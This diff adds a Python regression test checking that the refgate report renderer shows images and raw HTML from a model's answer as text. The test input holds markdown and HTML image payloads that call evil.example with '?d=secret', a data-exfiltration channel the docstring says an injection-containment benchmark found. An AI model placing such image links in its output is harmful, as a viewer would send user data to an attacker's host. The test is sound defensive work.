@@ -471,3 +471,26 @@ def test_header_states_verdict_models_tokens_cost_and_time():
     md = render_run_markdown({**base, "gate": blocked})
     assert md.splitlines()[2].startswith("GATE: **blocked with 2 unmet claim(s)** · workspace: ws1")
     assert "## Not verified" in md and "`uncited_claim`" in md
+
+
+def test_markdown_report_answer_has_no_live_image_or_raw_html():
+    """An answer image (``![](https://attacker/?d=...)``) or raw HTML would be fetched as soon as
+    a markdown viewer opens the report (found by benchmarks/injection_containment.py); they are
+    shown as text, while links, emphasis and code stay markdown."""
+    from markdown_it import MarkdownIt
+
+    from refgate.report import render_run_markdown
+
+    answer = (
+        "Rates were kept **unchanged** [val_0123456789].\n\n"
+        "![chart](https://evil.example/p.png?d=secret) and [the statement](https://fed.example/s)\n\n"
+        '<img src="https://evil.example/q.png?d=x"> then `code ![a](b) <i>` and 2 < 3\n\n'
+        "[![nested](https://evil.example/n.png)](https://evil.example/)\n\n"
+        "```\nprint('![x](y)', '<b>')\n```"
+    )
+    md = render_run_markdown({"type": "run", "question": "q", "answer": answer, "refs": {}})
+    tokens = [t for b in MarkdownIt("commonmark").parse(md) for t in [b, *(b.children or [])]]
+    assert not [t for t in tokens if t.type in ("image", "html_inline", "html_block")]
+    assert any(t.type == "link_open" and t.attrGet("href") == "https://fed.example/s" for t in tokens)
+    assert "`code ![a](b) <i>`" in md and "print('![x](y)', '<b>')" in md  # code as written
+    assert "**unchanged**" in md and "2 \\< 3" in md
